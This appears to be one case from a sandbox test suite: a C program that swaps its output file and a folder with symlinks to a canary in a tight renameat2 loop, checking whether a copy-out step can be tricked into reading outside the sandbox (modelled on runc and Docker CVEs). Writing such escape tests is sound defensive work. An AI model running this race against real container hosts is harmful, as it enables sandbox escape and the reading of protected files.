// Tries: exchanges its output file with a link to the canary, atomically and as fast as it can, until it is killed.
// Seen: runc CVE-2021-30465; Docker's copy-out race CVE-2018-15664.
// Must: what comes back is its own file or nothing, never what the link means.
// Case: row=A2 expect=limit:wall args={canary_file} limits=wall:500ms takes=/work/out:any,/work/dir/secret:any
#define _GNU_SOURCE
#include <fcntl.h>
#include <libgen.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int argc, char **argv) {
    char folder[256] = "";
    if (argc < 2) return 1;
    strncpy(folder, argv[1], sizeof folder - 1);
    int own = open("/work/out", O_CREAT | O_WRONLY, 0644);
    if (write(own, "mine", 4) != 4 || symlink(argv[1], "/work/link")) return 1;
    if (mkdir("/work/dir", 0755) || symlink(dirname(folder), "/work/way")) return 1;
    own = open("/work/dir/secret", O_CREAT | O_WRONLY, 0644);
    if (write(own, "mine", 4) != 4) return 1;
    if (access(argv[1], F_OK) == 0) { puts("ESCAPED: the canary is in sight"); return 66; }
    for (;;) {
        renameat2(AT_FDCWD, "/work/out", AT_FDCWD, "/work/link", RENAME_EXCHANGE);
        renameat2(AT_FDCWD, "/work/dir", AT_FDCWD, "/work/way", RENAME_EXCHANGE);
    }
}
